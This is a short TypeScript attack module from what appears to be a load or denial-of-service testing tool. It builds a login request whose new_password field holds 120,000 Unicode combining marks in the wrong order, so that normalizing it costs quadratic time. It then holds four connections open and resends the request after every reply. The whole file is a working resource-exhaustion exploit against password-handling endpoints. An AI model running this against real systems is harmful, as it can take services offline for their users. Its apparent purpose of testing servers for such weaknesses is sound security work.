// Sign-ins whose new password is a long run of combining marks in the wrong order: the time to normalize it grows with the square of its length.
import type { Target } from '../target.ts';
import type { Attack } from './attack.ts';
import { dial, keep, requestBytes } from './wire.ts';

const MARKS = 60_000;

export default {
  name: 'sign-ins with 120 000 combining marks in the wrong order',
  async run(target: Target, signal: AbortSignal) {
    const body = JSON.stringify({ new_password: `${'\u0315'.repeat(MARKS)}${'\u0316'.repeat(MARKS)}` });
    const headers = { authorization: `Basic ${Buffer.from('admin:wrong').toString('base64')}`, 'content-type': 'application/json' };
    const request = requestBytes('POST', '/login?realm=_', headers, body);
    await keep(4, signal, async () => {
      const socket = await dial(target, {});
      socket.write(request);
      socket.on('data', () => setTimeout(() => socket.write(request), 100));
      return socket;
    });
  },
} satisfies Attack;
